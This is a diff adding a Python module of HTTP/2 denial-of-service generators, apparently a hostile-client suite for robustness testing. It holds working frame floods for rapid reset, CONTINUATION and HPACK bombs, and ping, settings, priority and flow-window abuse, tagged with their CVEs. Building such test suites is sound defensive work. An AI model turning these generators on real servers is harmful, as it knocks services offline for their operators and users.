@@ -1,0 +1,139 @@
+"""Attacks on HTTP/2 servers, as endless rows of pieces: what a hostile client sends on one connection.
+
+Most of them once stopped well-known servers; the numbers are those of the reports.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from itertools import count
+
+from popmq_http2.frames import (
+    ACK,
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    INITIAL_WINDOW_SIZE,
+    PING,
+    PREFACE,
+    PRIORITY,
+    RST_STREAM,
+    SETTING,
+    SETTINGS,
+    U32,
+    WINDOW_UPDATE,
+    frame,
+    settings,
+)
+from popmq_http2.hpack import encode, remembered
+
+Pieces = Iterator[bytes]
+GREETING = PREFACE + settings({}) + frame(SETTINGS, ACK, 0)
+MESSAGE = b"\0" + U32.pack(10_000) + bytes(10_000)
+
+
+def head(path: bytes, *more: tuple[bytes, bytes]) -> bytes:
+    """The header block of a call."""
+    pairs = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"t")]
+    return encode([*pairs, (b"te", b"trailers"), (b"content-type", b"application/grpc"), *more])
+
+
+def streams(path: bytes, behind: Callable[[int], bytes], flags: int = END_HEADERS) -> Pieces:
+    """A call and what follows it, for one stream after the other."""
+    block = head(path)
+    return (frame(HEADERS, flags, number, block) + behind(number) for number in count(1, 2))
+
+
+def rapid_reset(path: bytes) -> Pieces:
+    """CVE-2023-44487: calls that are cancelled at once."""
+    return streams(path, lambda number: frame(RST_STREAM, 0, number, U32.pack(8)))
+
+
+def made_to_reset(path: bytes) -> Pieces:
+    """CVE-2025-8671: calls with a mistake, so that it is the server that cancels them."""
+    return streams(path, lambda number: frame(WINDOW_UPDATE, 0, number, U32.pack(0)))
+
+
+def continuations(path: bytes) -> Pieces:
+    """CVE-2024-27316: a header block that never ends."""
+    yield frame(HEADERS, 0, 1, head(path))
+    while True:
+        yield frame(CONTINUATION, 0, 1, b"\0\1x\1x")
+
+
+def hpack_bomb(path: bytes) -> Pieces:
+    """CVE-2016-6581: a large entry of the table, named thousands of times."""
+    yield frame(HEADERS, END_HEADERS, 1, head(path) + remembered(b"x", b"y" * 3_900))
+    for number in count(3, 2):
+        yield frame(HEADERS, END_HEADERS, number, b"\xbe" * 16_000)
+
+
+def header_flood(path: bytes) -> Pieces:
+    """Calls with as many headers as are allowed, all different, so that no block is known by its bytes."""
+    for number in count(1, 2):
+        more = [(b"x-%d-%d" % (number, place), b"v" * 20) for place in range(200)]
+        yield frame(HEADERS, END_HEADERS | END_STREAM, number, head(path, *more))
+
+
+def pings(path: bytes) -> Pieces:
+    """CVE-2019-9512."""
+    while True:
+        yield frame(PING, 0, 0, bytes(8))
+
+
+def empty_settings(path: bytes) -> Pieces:
+    """CVE-2019-9515."""
+    while True:
+        yield settings({})
+
+
+def full_settings(path: bytes) -> Pieces:
+    """As many settings as go into a frame, each of which changes the window of every open call."""
+    yield from (frame(HEADERS, END_HEADERS, number, head(path)) for number in range(1, 2_001, 2))
+    while True:
+        yield frame(SETTINGS, 0, 0, b"".join(SETTING.pack(INITIAL_WINDOW_SIZE, size) for size in range(2_700)))
+
+
+def priorities(path: bytes) -> Pieces:
+    """CVE-2019-9513."""
+    while True:
+        yield frame(PRIORITY, 0, 1, U32.pack(0) + b"\x10")
+
+
+def empty_data(path: bytes) -> Pieces:
+    """CVE-2019-9518."""
+    yield frame(HEADERS, END_HEADERS, 1, head(path))
+    while True:
+        yield frame(DATA, 0, 1)
+
+
+def tiny_data(path: bytes) -> Pieces:
+    """A message byte by byte."""
+    yield frame(HEADERS, END_HEADERS, 1, head(path)) + frame(DATA, 0, 1, b"\0" + U32.pack(1 << 20))
+    while True:
+        yield frame(DATA, 0, 1, b"x")
+
+
+def byte_windows(path: bytes) -> Pieces:
+    """CVE-2019-9511: an answer is taken byte by byte."""
+    yield settings({INITIAL_WINDOW_SIZE: 0}) + frame(HEADERS, END_HEADERS, 1, head(path))
+    yield frame(DATA, END_STREAM, 1, MESSAGE)
+    while True:
+        yield frame(WINDOW_UPDATE, 0, 1, U32.pack(1))
+
+
+def no_windows(path: bytes) -> Pieces:
+    """CVE-2019-9517: answers are asked for and never taken."""
+    yield settings({INITIAL_WINDOW_SIZE: 0})
+    yield from streams(path, lambda number: frame(DATA, END_STREAM, number, MESSAGE))
+
+
+ATTACKS: dict[str, Callable[[bytes], Pieces]] = {
+    attack.__name__: attack
+    for attack in (
+        rapid_reset, made_to_reset, continuations, hpack_bomb, header_flood, pings, empty_settings, full_settings,
+        priorities, empty_data, tiny_data, byte_windows, no_windows,
+    )
+}  # fmt: skip
